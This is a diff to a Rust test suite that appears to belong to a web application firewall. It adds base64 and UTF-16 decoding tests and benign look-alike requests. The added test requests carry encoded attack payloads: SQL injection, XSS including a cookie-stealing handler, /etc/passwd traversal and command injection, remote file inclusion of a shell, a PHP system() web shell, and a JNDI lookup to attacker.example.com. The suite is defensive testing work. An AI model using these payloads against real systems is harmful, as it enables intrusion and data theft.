@@ -204,6 +204,46 @@ fn enc(s: &str) -> String {
     out
 }
 
+/// Base64 of `s`: the standard alphabet with padding, or (`url`) base64url
+/// without padding.
+fn b64(s: &[u8], url: bool) -> String {
+    const STD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in s.chunks(3) {
+        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | (u32::from(b) << (16 - 8 * i)));
+        for k in 0..=chunk.len() {
+            let c = STD[((n >> (18 - 6 * k)) & 63) as usize] as char;
+            out.push(match (url, c) {
+                (true, '+') => '-',
+                (true, '/') => '_',
+                (_, c) => c,
+            });
+        }
+        if !url {
+            out.push_str(&"=".repeat(3 - chunk.len()));
+        }
+    }
+    out
+}
+
+/// `s` as NUL-interleaved UTF-16LE (ASCII only).
+fn utf16le(s: &str) -> Vec<u8> {
+    s.bytes().flat_map(|b| [b, 0]).collect()
+}
+
+/// GET /search?q=<bytes>, every byte percent-encoded as needed.
+fn q_bytes(v: &[u8]) -> Req {
+    let mut s = String::new();
+    for &b in v {
+        if b.is_ascii_alphanumeric() {
+            s.push(b as char);
+        } else {
+            s.push_str(&format!("%{b:02X}"));
+        }
+    }
+    Req::get(&format!("/search?q={s}"))
+}
+
 /// GET /search?q=<v>.
 fn q(v: &str) -> Req {
     Req::get(&format!("/search?q={}", enc(v)))
@@ -379,6 +419,46 @@ fn attacks() -> Vec<(i64, Req)> {
     ]);
     add(4210200, vec![Req::new("TRACE", "/"), Req::new("TRACK", "/index.html"), Req::new("trace", "/")]);
     add(4210300, vec![json(r#"{"a": [1, 2"#), xml("<order><id>1</id>"), multipart_broken()]);
+
+    // 15-decoded
+    let sqli = "' OR 1=1--";
+    let xss = "<script>alert(1)</script>";
+    add(4215100, vec![
+        Req::get("/").header("X-Custom", sqli),
+        Req::get("/").header("X-Api-Filter", &b64(sqli.as_bytes(), false)),
+        Req::get("/").header("X-Forwarded-Host", "x%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
+        Req::get("/products/1%27%20OR%20%271%27%3D%271"),
+        Req::get("/item/1%20UNION%20SELECT%20password%20FROM%20users--"),
+    ]);
+    add(4215110, vec![
+        Req::get("/").header("X-Custom", xss),
+        Req::get("/").header("X-Return-To", &b64(xss.as_bytes(), true)),
+        Req::get("/").header("X-Note", "&lt;img src=x onerror=alert(1)&gt;"),
+        Req::get("/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+    ]);
+    add(4240100, vec![
+        q(&b64(sqli.as_bytes(), false)),
+        q(&b64(b"1 UNION SELECT username, password FROM users", true)),
+        raw("/search?q=%2527%2520OR%25201%253D1--"),
+        q_bytes(&utf16le(sqli)),
+        form(&[("comment", &b64(b"'; DROP TABLE users; --", false))]),
+        json(r#"{"filter":"\u0027 OR 1=1--"}"#),
+    ]);
+    add(4215210, vec![
+        q(&b64(xss.as_bytes(), false)),
+        arg("next", &b64(b"<img src=x onerror=alert(1)>", true)),
+        form(&[("bio", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;")]),
+        json(r#"{"name":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
+        raw("/page?x=%253Csvg%2520onload%253Dalert(1)%253E"),
+        q_bytes(&[&[0xff, 0xfe][..], &utf16le(xss)].concat()),
+        Req::get("/").header("Cookie", &format!("pref={}", b64(b"<svg onload=alert(document.cookie)>", false))),
+    ]);
+    // The other families' critical argument rules read the decoded forms too.
+    add(4220100, vec![arg("file", &b64(b"../../../../etc/passwd", false)), raw("/page?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")]);
+    add(4225100, vec![arg("page", &b64(b"http://203.0.113.7/shell.txt?", true))]);
+    add(4230100, vec![arg("host", &b64(b"127.0.0.1;cat /etc/passwd", false)), json(r#"{"host":"127.0.0.1\u003bcat /etc/passwd"}"#)]);
+    add(4235100, vec![form(&[("message", &b64(b"<?php system($_GET['c']); ?>", false))])]);
+    add(4260100, vec![Req::get("/").header("X-Api-Version", &b64(b"${jndi:ldap://attacker.example.com:1389/Exploit}", true))]);
 
     // 20-lfi
     add(4220100, vec![
@@ -841,6 +921,35 @@ fn look_alikes() -> Vec<Req> {
     v.push(multipart("notes.txt", "text/plain", "Leave the parcel at the front door.\r\nThanks, Jane"));
     v.push(multipart("avatar.png", "image/png", "\u{89}PNG binary-ish data"));
     v.push(multipart("php-guide.pdf", "application/pdf", "%PDF-1.7 a guide to PHP"));
+    // What the decoding layer must leave alone (15-decoded): base64 that is
+    // not text, JWTs, ETags, prose in custom headers, base64 of prose.
+    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
+    v.push(form(&[("avatar", png), ("name", "Jane")]));
+    v.push(json(&format!(r#"{{"image":"{png}","alt":"a red dot"}}"#)));
+    v.push(q(png));
+    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI4NDUyMSIsIm5hbWUiOiJPJ0JyaWVuIn0.qMUqz3wWPa1Ev1H0cbbgk4hHq_PvqqqhOcN1Mv2EV9g";
+    v.push(Req::get("/").header("X-Auth-Token", jwt));
+    v.push(Req::get("/").header("Cookie", &format!("id_token={jwt}; theme=dark")));
+    v.push(arg("token", jwt));
+    v.push(Req::get("/").header("If-None-Match", "W/\"33a64df551425fcc55e4d42a148795d9f25f89d4\""));
+    v.push(Req::get("/").header("ETag", "\"686897696a7c876b7e\""));
+    v.push(Req::get("/").header("Cookie", "sess=3q2+7wAAAAD/////AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHw==; lang=en"));
+    v.push(Req::get("/").header("Cookie", "csrftoken=k9Xv2mQ8rT1wZ5yB7nL3pF6hJ0dS4gA-_cE; _ga=GA1.2.1234567890.1700000000"));
+    v.push(Req::get("/").header("X-Comment", "union station select seats"));
+    v.push(Req::get("/").header("X-Note", "drop me a line, O'Brien -- thanks & see you at 5 or 6"));
+    v.push(Req::get("/").header("X-Request-Context", "user=42; region=eu-west-1; plan=pro"));
+    v.push(Req::get("/").header("Referer", "https://shop.example.com/search?q=O%27Brien%20%26%20sons"));
+    v.push(Req::get("/").header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"));
+    v.push(Req::get("/").header("Content-Type", "text/plain; charset=\"utf-8\""));
+    v.push(Req::get("/").header("X-Filename", &b64(b"Quarterly report (final) - select regions.pdf", false)));
+    v.push(q(&b64(b"please select the best seats and drop me a line", false)));
+    v.push(q(&b64(b"I'd like 1 or 2 more; thanks!", true)));
+    v.push(q("SGVsbG8gV29ybGQh"));
+    v.push(q("%2541 is not a payload"));
+    v.push(q_bytes(&utf16le("union station select seats")));
+    v.push(Req::get("/blog/2024/o-briens-guide-to-select-seats"));
+    v.push(Req::get("/api/v1/items/42/reviews"));
+    v.push(Req::get("/files/UmVwb3J0IDIwMjQucGRm"));
     v
 }
 
@@ -1382,8 +1491,9 @@ fn every_regex_is_prefiltered() {
     let unfiltered = rules.unfiltered_rx_rules();
     assert!(unfiltered.is_empty(), "@rx rules without a literal prefilter: {unfiltered:?}");
     assert!(stats.prefiltered_rules >= 15, "{stats:?}");
-    // Few transformation chains, shared between rules.
-    assert!(stats.transformation_chains <= 6, "{stats:?}");
+    // Few transformation chains, shared between rules (the decoding chain of
+    // 15-decoded.conf is five of them, one per layer).
+    assert!(stats.transformation_chains <= 11, "{stats:?}");
 }
 
 #[test]
